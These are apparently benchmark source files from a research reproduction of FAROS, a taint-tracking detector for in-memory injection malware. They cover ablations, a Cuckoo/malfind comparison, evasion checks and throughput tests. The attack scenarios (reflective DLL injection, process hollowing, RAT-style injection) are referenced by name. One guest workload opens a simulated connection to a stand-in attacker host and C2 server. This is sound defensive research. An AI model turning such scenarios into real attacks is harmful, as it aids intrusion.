// Ablation benches for the design choices DESIGN.md calls out:
//  (a) tag-type ablation — disable one tag type at a time and check which
//      attacks survive detection (why the *synergy* of tag types matters);
//  (b) indirect flows (Figure 1, Section IV) — a lookup-table workload over
//      network input shows the overtainting blow-up when address
//      dependencies are propagated, while detection of the actual attacks
//      is unchanged: the per-security-policy confluence invariant does not
//      need indirect flows.
#include "attacks/guest_common.h"
#include "bench_util.h"
#include "core/engine.h"

using namespace faros;

namespace {

struct Config {
  const char* name;
  core::Options opts;
};

bool flag_with(attacks::Scenario& sc, const core::Options& opts) {
  auto run = bench::must_analyze(sc, opts);
  return run.flagged;
}

/// Figure-1-style workload: receive 64 bytes, push each through an identity
/// lookup table, fan the results out into three output rows.
class LookupScenario final : public attacks::Scenario {
 public:
  std::string name() const override { return "lookup-table-workload"; }
  u64 budget() const override { return 300'000; }

  Result<void> setup(os::Machine& m) override {
    using vm::Reg;
    os::ImageBuilder ib("lookup.exe", os::kUserImageBase);
    auto& a = ib.asm_();
    a.label("_start");
    attacks::emit_connect(a, attacks::kAttackerIp, attacks::kAttackerPort);
    attacks::emit_send_label(a, "req", 2);
    attacks::emit_alloc_self(a, 4096, os::kProtRead | os::kProtWrite);
    a.mov(Reg::R9, Reg::R0);
    attacks::emit_recv(a, Reg::R9, 64);
    a.mov(Reg::R8, Reg::R0);
    // Identity table.
    a.movi_label(Reg::R12, "table");
    a.movi(Reg::R2, 0);
    a.label("init");
    a.cmpi(Reg::R2, 256);
    a.bgeu("init_done");
    a.add(Reg::R3, Reg::R12, Reg::R2);
    a.st8(Reg::R3, 0, Reg::R2);
    a.addi(Reg::R2, Reg::R2, 1);
    a.jmp("init");
    a.label("init_done");
    attacks::emit_alloc_self(a, 4096, os::kProtRead | os::kProtWrite);
    a.mov(Reg::R11, Reg::R0);
    a.movi(Reg::R2, 0);
    a.label("loop");
    a.cmp(Reg::R2, Reg::R8);
    a.bgeu("done");
    a.add(Reg::R3, Reg::R9, Reg::R2);
    a.ld8(Reg::R4, Reg::R3, 0);       // tainted input byte
    a.add(Reg::R5, Reg::R12, Reg::R4);
    a.ld8(Reg::R6, Reg::R5, 0);       // Figure 1's address dependency
    a.add(Reg::R3, Reg::R11, Reg::R2);
    a.st8(Reg::R3, 0, Reg::R6);
    a.addi(Reg::R7, Reg::R6, 1);
    a.st8(Reg::R3, 64, Reg::R7);
    a.xori(Reg::R7, Reg::R6, 5);
    a.st8(Reg::R3, 128, Reg::R7);
    a.addi(Reg::R2, Reg::R2, 1);
    a.jmp("loop");
    a.label("done");
    a.label("spin");
    attacks::emit_sys(a, os::Sys::kNtYield);
    a.jmp("spin");
    a.align(8);
    a.label("req");
    a.data_str("GO", false);
    a.align(8);
    a.label("table");
    a.zeros(256);
    auto img = ib.build();
    if (!img.ok()) return Err<void>(img.error().message);
    m.kernel().vfs().create("C:/lookup.exe", img.value().serialize());
    auto pid = m.kernel().spawn("C:/lookup.exe");
    if (!pid.ok()) return Err<void>(pid.error().message);
    return Ok();
  }

  std::unique_ptr<os::EventSource> make_source() override {
    auto c2 = std::make_unique<attacks::C2Server>();
    Bytes input(64);
    for (size_t i = 0; i < input.size(); ++i) {
      input[i] = static_cast<u8>(i * 3 + 1);
    }
    c2->queue_response(std::move(input));
    return c2;
  }
};

}  // namespace

int main() {
  bench::heading("Ablation (a) — tag types vs attack classes");

  core::Options base;
  core::Options no_netflow = base;
  no_netflow.track_netflow = false;
  core::Options no_process = base;
  no_process.track_process = false;
  core::Options no_file = base;
  no_file.track_file = false;
  no_file.taint_mapped_images = false;
  core::Options no_export = base;
  no_export.track_export = false;

  Config configs[] = {
      {"full FAROS", base},           {"- netflow tags", no_netflow},
      {"- process tags", no_process}, {"- file tags", no_file},
      {"- export tags", no_export},
  };

  std::printf("%-16s %-24s %-20s\n", "configuration", "reflective (network)",
              "hollowing (file-borne)");
  bool ok = true;
  for (const auto& cfg : configs) {
    attacks::ReflectiveDllScenario refl(
        attacks::ReflectiveVariant::kMeterpreter);
    attacks::HollowingScenario hollow;
    bool r = flag_with(refl, cfg.opts);
    bool h = flag_with(hollow, cfg.opts);
    std::printf("%-16s %-24s %-20s\n", cfg.name, r ? "flagged" : "MISSED",
                h ? "flagged" : "MISSED");
    if (std::string(cfg.name) == "full FAROS") ok &= r && h;
    if (std::string(cfg.name) == "- export tags") ok &= !r && !h;
    if (std::string(cfg.name) == "- netflow tags") ok &= h;  // file path holds
  }
  std::printf("expected shape: full config catches both; removing export "
              "tags blinds everything (the confluence anchor); removing "
              "netflow still catches the file-borne hollowing.\n");

  bench::heading(
      "Ablation (b) — indirect flows: Figure 1 lookup table over network "
      "input");

  core::Options quiet;
  quiet.taint_mapped_images = false;  // isolate the effect
  core::Options addr_on = quiet;
  addr_on.propagate_address_deps = true;

  LookupScenario lookup_off, lookup_on;
  auto off_run = bench::must_analyze(lookup_off, quiet);
  auto on_run = bench::must_analyze(lookup_on, addr_on);

  std::printf("%-28s %16s %16s %10s\n", "mode", "tainted bytes",
              "distinct lists", "flagged");
  std::printf("%-28s %16llu %16zu %10s\n", "per-policy (paper default)",
              static_cast<unsigned long long>(off_run.tainted_bytes),
              off_run.prov_lists, off_run.flagged ? "yes" : "no");
  std::printf("%-28s %16llu %16zu %10s\n", "+ address dependencies",
              static_cast<unsigned long long>(on_run.tainted_bytes),
              on_run.prov_lists, on_run.flagged ? "yes" : "no");

  double blowup = static_cast<double>(on_run.tainted_bytes) /
                  std::max<u64>(off_run.tainted_bytes, 1);
  std::printf("\novertainting blow-up: %.2fx tainted bytes — the outputs of "
              "every table lookup become tainted (and would keep "
              "compounding in a real system)\n",
              blowup);
  ok &= blowup > 2.0 && !off_run.flagged && !on_run.flagged;

  // Detection of the actual attack is identical in both modes: the
  // confluence invariant never needed indirect flows.
  attacks::ReflectiveDllScenario refl(
      attacks::ReflectiveVariant::kMeterpreter);
  bool flagged_with_addr = flag_with(refl, addr_on);
  std::printf("reflective injection with address deps ON: %s (unchanged)\n",
              flagged_with_addr ? "flagged" : "MISSED");
  ok &= flagged_with_addr;

  std::printf("result: %s\n", ok ? "REPRODUCED" : "REPRODUCTION FAILURE");
  return ok ? 0 : 1;
}
