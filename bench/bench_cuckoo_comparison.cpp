// Reproduces Section VI-B: comparison with CuckooBox (+ Volatility/malfind).
// For each attack class we run the sandbox baseline and FAROS and compare:
//   * event-based Cuckoo alone never flags in-memory injection;
//   * malfind finds *resident* injected regions in the dump but yields no
//     provenance (no netflow, no injector linkage);
//   * malfind misses the *transient* variant that wipes itself;
//   * FAROS flags every case and provides the full provenance chain.
#include <memory>

#include "baselines/cuckoo.h"
#include "bench_util.h"

using namespace faros;

namespace {

struct Row {
  std::string name;
  bool cuckoo_event = false;
  bool cuckoo_malfind = false;
  bool faros = false;
  bool faros_provenance = false;
};

Row evaluate(attacks::Scenario& sc) {
  Row row;
  row.name = sc.name();
  // Cuckoo side: live run with the monitor, dump at the end.
  {
    os::Machine m;
    baselines::CuckooSandboxSim cuckoo;
    m.add_monitor(&cuckoo);
    if (!m.boot().ok()) std::exit(1);
    auto source = sc.make_source();
    if (source) m.set_event_source(source.get());
    if (!sc.setup(m).ok()) std::exit(1);
    m.run(sc.budget());
    auto dump = baselines::CuckooSandboxSim::take_memory_dump(m.kernel());
    row.cuckoo_event = cuckoo.behavioral_verdict();
    row.cuckoo_malfind = !baselines::malfind(dump).empty();
  }
  // FAROS side: record + replay under the taint engine.
  auto run = bench::must_analyze(sc);
  row.faros = run.flagged;
  for (const auto& f : run.findings) {
    if (f.fetch_prov != core::kEmptyProv) row.faros_provenance = true;
  }
  return row;
}

}  // namespace

int main() {
  bench::heading("Section VI-B — FAROS vs CuckooBox (+ malfind)");

  std::vector<std::unique_ptr<attacks::Scenario>> scenarios;
  scenarios.push_back(std::make_unique<attacks::ReflectiveDllScenario>(
      attacks::ReflectiveVariant::kMeterpreter));
  scenarios.push_back(std::make_unique<attacks::ReflectiveDllScenario>(
      attacks::ReflectiveVariant::kMeterpreter, /*transient=*/true));
  scenarios.push_back(std::make_unique<attacks::HollowingScenario>());
  scenarios.push_back(
      std::make_unique<attacks::RatInjectionScenario>("darkcomet"));

  const char* labels[] = {
      "reflective DLL inject (resident)",
      "reflective DLL inject (transient)",
      "process hollowing",
      "code injection (RAT)",
  };

  std::printf("%-36s %-14s %-16s %-8s %s\n", "attack", "cuckoo-events",
              "cuckoo+malfind", "FAROS", "FAROS provenance");
  int i = 0;
  bool ok = true;
  for (auto& sc : scenarios) {
    Row row = evaluate(*sc);
    std::printf("%-36s %-14s %-16s %-8s %s\n", labels[i],
                row.cuckoo_event ? "detected" : "blind",
                row.cuckoo_malfind ? "detected" : "MISSED",
                row.faros ? "FLAGGED" : "missed",
                row.faros_provenance ? "full chain" : "-");
    // Expected shape per the paper:
    ok &= !row.cuckoo_event;          // event-based always blind
    ok &= row.faros;                  // FAROS always flags
    ok &= row.faros_provenance;       // ...with provenance
    if (i == 1) ok &= !row.cuckoo_malfind;  // transient evades the dump
    if (i == 0 || i == 2) ok &= row.cuckoo_malfind;  // resident is found
    ++i;
  }

  std::printf("\npaper shape: cuckoo alone cannot flag; malfind flags "
              "resident injections only (and knows nothing about their "
              "origin); FAROS flags all, with provenance\n");
  std::printf("result: %s\n", ok ? "REPRODUCED" : "REPRODUCTION FAILURE");
  return ok ? 0 : 1;
}
