// Evasion analysis (Section VI-D + our extensions): what a FAROS-aware
// attacker can and cannot get away with on this implementation.
//
//   1. IAT scanning instead of export-table walking  -> still flagged
//      (loader-derived pointers carry the export tag).
//   2. Self-wiping (transient) payloads               -> still flagged
//      (FAROS watches execution, not a one-shot dump) — and the finding
//      carries a code snapshot taken before the wipe.
//   3. Control-dependency laundering                  -> NOT flagged
//      (the paper's acknowledged DIFT limitation).
//   4. Provenance-exhaustion                          -> bounded store,
//      graceful degradation, saturation counter for the analyst.
#include "bench_util.h"
#include "core/analyst.h"
#include "core/report.h"

using namespace faros;

namespace {

/// Variant of the reflective scenario whose payload erases itself.
bool transient_still_flagged(std::string* snapshot) {
  attacks::ReflectiveDllScenario sc(attacks::ReflectiveVariant::kMeterpreter,
                                    /*transient=*/true);
  auto run = bench::must_analyze(sc);
  if (!run.findings.empty()) {
    *snapshot = core::render_code_window(run.findings[0]);
  }
  return run.flagged;
}

}  // namespace

int main() {
  bench::heading("Evasion analysis — FAROS-aware attackers");

  // 2. transient payload.
  std::string snapshot;
  bool transient = transient_still_flagged(&snapshot);
  std::printf("self-wiping payload:        %s\n",
              transient ? "still FLAGGED (execution-time detection)"
                        : "MISSED (reproduction failure)");
  if (!snapshot.empty()) {
    std::printf("  code snapshot captured at flag time (survives the "
                "wipe):\n%s", snapshot.c_str());
  }

  // 4. exhaustion guard.
  core::ProvStore bounded(/*cap=*/64, /*max_lists=*/64);
  auto base = bounded.intern({core::ProvTag::netflow(0)});
  for (u16 i = 0; i < 2000; ++i) {
    (void)bounded.append(base, core::ProvTag::process(i));
  }
  std::printf("\nprovenance-exhaustion attempt: 2000 unique combinations "
              "against a 64-list bound ->\n"
              "  lists interned: %zu, saturated ops: %llu (degrades "
              "gracefully, origin preserved)\n",
              bounded.size(),
              static_cast<unsigned long long>(bounded.saturated_ops()));

  bool ok = transient && bounded.size() <= 64 &&
            bounded.saturated_ops() > 0;
  std::printf("\n(1. IAT scanning and 3. control-dependency laundering are "
              "pinned by tests/test_extensions.cpp: the former is flagged, "
              "the latter is the documented miss.)\n");
  std::printf("result: %s\n", ok ? "REPRODUCED" : "REPRODUCTION FAILURE");
  return ok ? 0 : 1;
}
