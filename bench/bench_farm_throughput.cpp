// Farm scaling bench: triages the full Table IV corpus (90 non-injecting
// malware samples + 14 benign applications) through the farm at worker
// counts 1 -> hardware_concurrency and reports jobs/s, instructions/s and
// latency percentiles per sweep point. The shape to check: throughput
// scales near-linearly with workers (jobs are independent machines), and
// the flagged/clean verdict set is identical at every worker count.
//
// With FAROS_BENCH_JSON=<path> each sweep point also lands as a JSONL
// record, so the scaling trajectory is machine-readable.
#include <algorithm>
#include <thread>
#include <vector>

#include "attacks/corpus.h"
#include "bench_util.h"
#include "farm/farm.h"
#include "farm/results.h"

using namespace faros;

namespace {

std::vector<farm::JobSpec> corpus_jobs() {
  std::vector<farm::JobSpec> jobs;
  for (auto& e : attacks::behavior_corpus()) {
    farm::JobSpec spec;
    spec.name = e.name;
    spec.category = e.category;
    spec.expect_flagged = e.expect_flagged;
    spec.make = e.make;
    jobs.push_back(std::move(spec));
  }
  return jobs;
}

}  // namespace

int main() {
  bench::heading("Farm throughput — Table IV corpus vs worker count");

  u32 hw = std::max(1u, std::thread::hardware_concurrency());
  // Sweep powers of two up to hardware_concurrency, but always include
  // 1/2/4 so the cross-worker determinism check is meaningful even on
  // small hosts (oversubscribed pools must still agree byte-for-byte).
  u32 top = std::max(hw, 4u);
  std::vector<u32> sweep;
  for (u32 w = 1; w < top; w *= 2) sweep.push_back(w);
  sweep.push_back(top);

  std::printf("hardware_concurrency: %u | corpus: %zu jobs\n\n", hw,
              corpus_jobs().size());
  std::printf("%8s %10s %10s %14s %10s %10s %9s\n", "workers", "wall (s)",
              "jobs/s", "insns/s", "p50 (ms)", "p95 (ms)", "flagged");

  double baseline_jps = 0;
  double speedup_at_4 = 0;
  std::string verdicts_at_1;
  bool deterministic = true;

  for (u32 w : sweep) {
    farm::FarmConfig cfg;
    cfg.workers = w;
    farm::Farm f(cfg);
    farm::TriageReport rep = f.run(corpus_jobs());
    const farm::FarmMetrics& m = rep.metrics;

    if (m.errors || m.timeouts || m.cancelled) {
      std::fprintf(stderr, "FATAL: %u errors, %u timeouts, %u cancelled at "
                   "%u workers\n", m.errors, m.timeouts, m.cancelled, w);
      return 1;
    }

    std::string verdicts = farm::results_jsonl(rep);
    if (w == 1) {
      baseline_jps = m.jobs_per_s;
      verdicts_at_1 = verdicts;
    } else if (verdicts != verdicts_at_1) {
      deterministic = false;
    }
    if (w == 4) speedup_at_4 = m.jobs_per_s / baseline_jps;

    std::printf("%8u %10.2f %10.1f %13.1fM %10.1f %10.1f %9u\n", w, m.wall_s,
                m.jobs_per_s, m.insns_per_s / 1e6, m.p50_ms, m.p95_ms,
                m.flagged);

    JsonWriter rec;
    rec.field("workers", w)
        .field("jobs", m.jobs)
        .field("wall_s", m.wall_s)
        .field("jobs_per_s", m.jobs_per_s)
        .field("insns_per_s", m.insns_per_s)
        .field("p50_ms", m.p50_ms)
        .field("p95_ms", m.p95_ms)
        .field("flagged", m.flagged)
        .field("speedup_vs_1", baseline_jps ? m.jobs_per_s / baseline_jps : 1.0);
    bench::json_record("farm_throughput", rec);
  }

  std::printf("\ndeterminism across worker counts: %s\n",
              deterministic ? "byte-identical JSONL" : "DIVERGED");
  if (!deterministic) {
    std::printf("result: REPRODUCTION FAILURE\n");
    return 1;
  }
  // The >2x-at-4-workers scaling check only means something with >= 4
  // physical cores under the pool; on smaller hosts report and move on.
  if (hw >= 4 && speedup_at_4 > 0) {
    std::printf("speedup at 4 workers vs 1: %.2fx (target > 2x)\n",
                speedup_at_4);
    bool ok = speedup_at_4 > 2.0;
    std::printf("result: %s\n", ok ? "SCALING REPRODUCED"
                                   : "SCALING FAILURE");
    return ok ? 0 : 1;
  }
  std::printf("speedup check skipped: only %u hardware thread(s)\n", hw);
  std::printf("result: SCALING CHECK SKIPPED (determinism ok)\n");
  return 0;
}
