// Farm scaling bench: triages the full Table IV corpus (90 non-injecting
// malware samples + 14 benign applications) through the farm, first with
// cold per-job boots (snapshot off — the pre-snapshot baseline), then with
// snapshot/COW cloning at worker counts 1 -> hardware_concurrency.
//
// Shapes to check:
//  * snapshot cloning beats the cold baseline by > 2x jobs/s at equal
//    worker count (in practice it is >10x: the cold farm spends nearly all
//    of its time zeroing and re-booting 64 MiB guests);
//  * the verdict JSONL is byte-identical at every sweep point AND against
//    the cold baseline — cloning is purely a throughput lever.
//
// With FAROS_BENCH_JSON=<path> each sweep point also lands as a JSONL
// record, so the before/after trajectory is machine-readable.
#include <algorithm>
#include <thread>
#include <vector>

#include "attacks/corpus.h"
#include "bench_util.h"
#include "farm/farm.h"
#include "farm/results.h"

using namespace faros;

namespace {

std::vector<farm::JobSpec> corpus_jobs() {
  std::vector<farm::JobSpec> jobs;
  for (auto& e : attacks::behavior_corpus()) {
    farm::JobSpec spec;
    spec.name = e.name;
    spec.category = e.category;
    spec.expect_flagged = e.expect_flagged;
    spec.make = e.make;
    jobs.push_back(std::move(spec));
  }
  return jobs;
}

struct Sweep {
  farm::FarmMetrics metrics;
  std::string verdicts;
  bool failed = false;
};

Sweep run_point(u32 workers, bool snapshot) {
  Sweep out;
  farm::FarmConfig cfg;
  cfg.workers = workers;
  cfg.snapshot = snapshot;
  farm::Farm f(cfg);
  farm::TriageReport rep = f.run(corpus_jobs());
  out.metrics = rep.metrics;
  out.verdicts = farm::results_jsonl(rep);
  out.failed = rep.metrics.errors || rep.metrics.timeouts ||
               rep.metrics.cancelled;
  if (out.failed) {
    std::fprintf(stderr,
                 "FATAL: %u errors, %u timeouts, %u cancelled at %u workers "
                 "(snapshot %s)\n",
                 rep.metrics.errors, rep.metrics.timeouts,
                 rep.metrics.cancelled, workers, snapshot ? "on" : "off");
  }
  return out;
}

void print_row(const char* label, u32 w, const farm::FarmMetrics& m) {
  std::printf("%-10s %6u %10.2f %10.1f %13.1fM %10.1f %10.1f %9u\n", label, w,
              m.wall_s, m.jobs_per_s, m.insns_per_s / 1e6, m.p50_ms, m.p95_ms,
              m.flagged);
}

void emit_record(const char* mode, u32 w, const farm::FarmMetrics& m,
                 double cold_jps) {
  JsonWriter rec;
  rec.field("mode", mode)
      .field("workers", w)
      .field("jobs", m.jobs)
      .field("wall_s", m.wall_s)
      .field("jobs_per_s", m.jobs_per_s)
      .field("insns_per_s", m.insns_per_s)
      .field("p50_ms", m.p50_ms)
      .field("p95_ms", m.p95_ms)
      .field("flagged", m.flagged)
      .field("speedup_vs_cold", cold_jps ? m.jobs_per_s / cold_jps : 1.0);
  bench::json_record("farm_throughput", rec);
}

}  // namespace

int main() {
  bench::heading("Farm throughput — Table IV corpus, cold boot vs snapshot/COW");

  u32 hw = std::max(1u, std::thread::hardware_concurrency());
  // Sweep powers of two up to hardware_concurrency, but always include
  // 1/2/4 so the cross-worker determinism check is meaningful even on
  // small hosts (oversubscribed pools must still agree byte-for-byte).
  u32 top = std::max(hw, 4u);
  std::vector<u32> sweep;
  for (u32 w = 1; w < top; w *= 2) sweep.push_back(w);
  sweep.push_back(top);

  std::printf("hardware_concurrency: %u | corpus: %zu jobs\n\n", hw,
              corpus_jobs().size());
  std::printf("%-10s %6s %10s %10s %14s %10s %10s %9s\n", "mode", "workers",
              "wall (s)", "jobs/s", "insns/s", "p50 (ms)", "p95 (ms)",
              "flagged");

  // Before: the pre-snapshot farm — every job cold-boots (and zeroes) its
  // own 64 MiB record and replay guests.
  Sweep cold = run_point(1, /*snapshot=*/false);
  if (cold.failed) return 1;
  print_row("cold", 1, cold.metrics);
  const double cold_jps = cold.metrics.jobs_per_s;
  emit_record("cold", 1, cold.metrics, cold_jps);

  // After: boot once, clone per job.
  bool deterministic = true;
  double snap_w1_jps = 0;
  for (u32 w : sweep) {
    Sweep s = run_point(w, /*snapshot=*/true);
    if (s.failed) return 1;
    print_row("snapshot", w, s.metrics);
    if (w == 1) snap_w1_jps = s.metrics.jobs_per_s;
    if (s.verdicts != cold.verdicts) deterministic = false;
    emit_record("snapshot", w, s.metrics, cold_jps);
  }

  std::printf("\nverdicts (every sweep point vs cold baseline): %s\n",
              deterministic ? "byte-identical JSONL" : "DIVERGED");
  if (!deterministic) {
    std::printf("result: REPRODUCTION FAILURE\n");
    return 1;
  }

  const double speedup = cold_jps ? snap_w1_jps / cold_jps : 0;
  std::printf("snapshot speedup vs cold boot (1 worker): %.1fx (target > 2x)\n",
              speedup);
  bool ok = speedup > 2.0;
  std::printf("result: %s\n",
              ok ? "SNAPSHOT THROUGHPUT REPRODUCED" : "THROUGHPUT FAILURE");
  return ok ? 0 : 1;
}
