// Reproduces Figure 10: provenance tracking for process hollowing /
// replacement — process_hollowing.exe -> svchost.exe -> export-table read,
// with NO netflow anywhere in the chain (the payload ships inside the
// loader's image, like the paper's Lab 3-3 sample).
#include "bench_util.h"
#include "core/report.h"

using namespace faros;

int main() {
  bench::heading(
      "Figure 10 — provenance tracking for process hollowing/replacement");

  attacks::HollowingScenario sc;
  auto run = bench::must_analyze(sc);

  std::printf("paper shape: provenance of the flagged instruction runs "
              "process_hollowing.exe -> svchost.exe (svchost is a child of "
              "the loader); flagged without any netflow tag\n\n");
  std::printf("measured:\n%s\n", run.report.c_str());

  int cross = 0, netflow = 0;
  for (const auto& f : run.findings) {
    if (f.policy == "cross-process-export-confluence") ++cross;
    if (f.policy == "netflow-export-confluence") ++netflow;
  }
  std::printf("cross-process-policy findings: %d (expected > 0)\n", cross);
  std::printf("netflow-policy findings:       %d (expected 0 — no network "
              "involvement)\n",
              netflow);
  bool ok = cross > 0 && netflow == 0 && run.flagged;
  std::printf("result: %s\n", ok ? "REPRODUCED" : "REPRODUCTION FAILURE");
  return ok ? 0 : 1;
}
