// Reproduces Figures 7, 8 and 9: provenance tracking for the three
// Metasploit reflective-DLL-injection modules. For each variant we print
// the flagged instruction, the provenance list of its bytes, and the
// provenance of the export-table read — the two chains the paper draws.
#include "bench_util.h"
#include "core/report.h"

using namespace faros;

namespace {

void run_variant(attacks::ReflectiveVariant variant, const char* figure,
                 const char* module, const char* expected_chain,
                 int* failures) {
  attacks::ReflectiveDllScenario sc(variant);
  auto run = bench::must_analyze(sc);
  std::printf("\n--- %s: Metasploit module `%s` ---\n", figure, module);
  std::printf("paper shape: %s\n", expected_chain);
  if (run.findings.empty()) {
    std::printf("measured: NOT FLAGGED (reproduction failure)\n");
    ++*failures;
    return;
  }
  // Re-render via an engine-independent path: the findings carry list ids
  // into the analyzed run's report, so print the first finding in full.
  std::printf("measured:\n%s", run.report.c_str());
  std::printf("netflow-policy findings: ");
  int n = 0;
  for (const auto& f : run.findings) {
    if (f.policy == "netflow-export-confluence") ++n;
  }
  std::printf("%d\n", n);
  if (n == 0) ++*failures;
}

}  // namespace

int main() {
  bench::heading(
      "Figures 7-9 — provenance tracking for reflective DLL injection");
  int failures = 0;
  run_variant(attacks::ReflectiveVariant::kMeterpreter, "Figure 7",
              "reflective_dll_inject",
              "NetFlow{...:4444 -> ...:49162} -> inject_client.exe -> "
              "notepad.exe, reading an ExportTable-tagged address",
              &failures);
  run_variant(attacks::ReflectiveVariant::kReverseTcpDns, "Figure 8",
              "reverse_tcp_dns",
              "NetFlow -> inject_client.exe (shellcode and target are the "
              "same process), reading an ExportTable-tagged address",
              &failures);
  run_variant(attacks::ReflectiveVariant::kBypassUac, "Figure 9",
              "bypassuac_injection",
              "NetFlow -> inject_client.exe -> firefox.exe, reading an "
              "ExportTable-tagged address",
              &failures);
  std::printf("\nresult: %s (3 variants, %d failure(s))\n",
              failures == 0 ? "ALL FLAGGED" : "REPRODUCTION FAILURE",
              failures);
  return failures == 0 ? 0 : 1;
}
