// bench_graph_export — cost of the provenance-graph layer (src/graph) over
// the injection corpus: graph builds/sec from a live engine snapshot,
// serialize MB/sec for the .fpg artifact, and backward slices/sec from
// every finding. Graph export runs once per farm job when --graph-out is
// set, so build+serialize must stay negligible next to record/replay
// (compare against bench_farm_throughput's jobs/sec).
#include <memory>

#include "attacks/corpus.h"
#include "bench_util.h"
#include "graph/graph.h"
#include "graph/slice.h"

using namespace faros;

namespace {

/// A replayed-under-FAROS scenario kept alive so build_graph can be timed
/// against the real engine + kernel state repeatedly.
struct LiveRun {
  std::string name;
  std::unique_ptr<os::Machine> machine;
  std::unique_ptr<core::FarosEngine> engine;
};

}  // namespace

int main() {
  bench::heading("Provenance graph export (src/graph) — injection corpus");

  // Record + replay each scenario once, outside every timed region: the
  // bench measures the graph layer, not the analysis pipeline.
  std::vector<LiveRun> runs;
  for (const auto& e : attacks::injection_corpus()) {
    auto sc = e.make();
    auto rec = attacks::record_run(*sc);
    if (!rec.ok()) {
      std::fprintf(stderr, "FATAL: record '%s' failed: %s\n", e.name.c_str(),
                   rec.error().message.c_str());
      return 1;
    }
    LiveRun run;
    run.name = e.name;
    run.machine = std::make_unique<os::Machine>();
    run.engine = std::make_unique<core::FarosEngine>(run.machine->kernel(),
                                                     core::Options{});
    run.machine->attach_cpu_plugin(run.engine.get());
    run.machine->add_monitor(run.engine.get());
    if (!run.machine->boot().ok() || !sc->setup(*run.machine).ok()) {
      std::fprintf(stderr, "FATAL: replay setup '%s' failed\n",
                   e.name.c_str());
      return 1;
    }
    run.machine->load_replay(rec.value().log);
    run.machine->run(sc->budget());
    runs.push_back(std::move(run));
  }

  constexpr u32 kRounds = 50;

  // Build: engine snapshot -> typed graph.
  u64 nodes = 0, edges = 0;
  std::vector<graph::ProvGraph> graphs;
  double build_s = bench::time_s([&] {
    for (u32 round = 0; round < kRounds; ++round) {
      graphs.clear();
      nodes = edges = 0;
      for (const auto& run : runs) {
        graphs.push_back(
            graph::build_graph(*run.engine, run.machine->kernel()));
        nodes += graphs.back().nodes.size();
        edges += graphs.back().edges.size();
      }
    }
  });

  // Serialize: graph -> .fpg bytes.
  u64 bytes = 0;
  double ser_s = bench::time_s([&] {
    for (u32 round = 0; round < kRounds; ++round) {
      bytes = 0;
      for (const auto& g : graphs) bytes += graph::serialize(g).size();
    }
  });

  // Slice: backward from every finding of every graph.
  graph::SliceOptions opts;
  u64 slices = 0, hops = 0;
  double slice_s = bench::time_s([&] {
    for (u32 round = 0; round < kRounds; ++round) {
      slices = hops = 0;
      for (const auto& g : graphs) {
        size_t findings = g.count(graph::NodeType::kFinding);
        for (u32 i = 0; i < findings; ++i) {
          graph::Slice s = graph::slice(g, *g.node_id(graph::NodeType::kFinding, i), opts);
          ++slices;
          hops += s.hops.size();
        }
      }
    }
  });

  const double n = static_cast<double>(runs.size()) * kRounds;
  std::printf("%zu graphs/round: %llu nodes, %llu edges, %llu bytes, "
              "%llu slices (%llu hops)\n",
              runs.size(), static_cast<unsigned long long>(nodes),
              static_cast<unsigned long long>(edges),
              static_cast<unsigned long long>(bytes),
              static_cast<unsigned long long>(slices),
              static_cast<unsigned long long>(hops));
  std::printf("build      %u rounds in %.3fs: %.0f graphs/s\n", kRounds,
              build_s, n / build_s);
  std::printf("serialize  %u rounds in %.3fs: %.0f graphs/s, %.2f MB/s\n",
              kRounds, ser_s, n / ser_s,
              static_cast<double>(bytes) * kRounds / ser_s / 1e6);
  std::printf("slice      %u rounds in %.3fs: %.0f slices/s\n", kRounds,
              slice_s, static_cast<double>(slices) * kRounds / slice_s);

  JsonWriter w;
  w.field("graphs", static_cast<u64>(runs.size()))
      .field("nodes", nodes)
      .field("edges", edges)
      .field("bytes", bytes)
      .field("slices", slices)
      .field("hops", hops)
      .field("rounds", kRounds)
      .field("build_s", build_s)
      .field("serialize_s", ser_s)
      .field("slice_s", slice_s)
      .field("builds_per_s", n / build_s)
      .field("serializes_per_s", n / ser_s)
      .field("slices_per_s", static_cast<double>(slices) * kRounds / slice_s);
  bench::json_record("graph_export", w);
  return 0;
}
