// Reproduces the headline evaluation result (Section VI): all six advanced
// in-memory-injection malware samples are flagged —
//   3x reflective DLL injection (reflective_dll_inject, reverse_tcp_dns,
//      bypassuac_injection), 1x process hollowing/replacement, and
//   2x code/process injection (DarkComet and Njrat analogues).
#include <memory>

#include "bench_util.h"

using namespace faros;

int main() {
  bench::heading("Headline — six in-memory injection attacks vs FAROS");

  struct Entry {
    std::string technique;
    std::unique_ptr<attacks::Scenario> scenario;
  };
  std::vector<Entry> entries;
  entries.push_back({"reflective DLL injection",
                     std::make_unique<attacks::ReflectiveDllScenario>(
                         attacks::ReflectiveVariant::kMeterpreter)});
  entries.push_back({"reflective DLL injection",
                     std::make_unique<attacks::ReflectiveDllScenario>(
                         attacks::ReflectiveVariant::kReverseTcpDns)});
  entries.push_back({"reflective DLL injection",
                     std::make_unique<attacks::ReflectiveDllScenario>(
                         attacks::ReflectiveVariant::kBypassUac)});
  entries.push_back({"process hollowing/replacement",
                     std::make_unique<attacks::HollowingScenario>()});
  entries.push_back({"code/process injection",
                     std::make_unique<attacks::RatInjectionScenario>(
                         "darkcomet")});
  entries.push_back({"code/process injection",
                     std::make_unique<attacks::RatInjectionScenario>(
                         "njrat")});

  std::printf("%-28s %-32s %-9s %s\n", "sample", "technique", "flagged",
              "policy");
  int flagged = 0;
  for (auto& e : entries) {
    auto run = bench::must_analyze(*e.scenario);
    flagged += run.flagged;
    std::string policy = run.findings.empty() ? "-" : run.findings[0].policy;
    std::printf("%-28s %-32s %-9s %s\n", e.scenario->name().c_str(),
                e.technique.c_str(), run.flagged ? "YES" : "NO",
                policy.c_str());
  }

  std::printf("\npaper: 6/6 flagged.  measured: %d/%zu flagged\n", flagged,
              entries.size());
  std::printf("result: %s\n", flagged == 6 ? "REPRODUCED"
                                           : "REPRODUCTION FAILURE");
  return flagged == 6 ? 0 : 1;
}
