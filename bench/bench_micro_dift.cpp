// Micro-benchmarks (google-benchmark) for the DIFT engine's hot paths:
// interned provenance-list operations, shadow-memory access, and the raw
// interpreter with and without the taint plugin attached — the per-
// instruction cost that Table V's macro numbers are made of.
#include <benchmark/benchmark.h>

#include "attacks/guest_common.h"
#include "core/engine.h"
#include "os/machine.h"

using namespace faros;

namespace {

void BM_ProvStoreAppend(benchmark::State& state) {
  core::ProvStore store;
  core::ProvListId id = store.intern({core::ProvTag::netflow(0)});
  u16 i = 0;
  for (auto _ : state) {
    benchmark::DoNotOptimize(store.append(id, core::ProvTag::process(i)));
    i = static_cast<u16>((i + 1) % 64);
  }
}
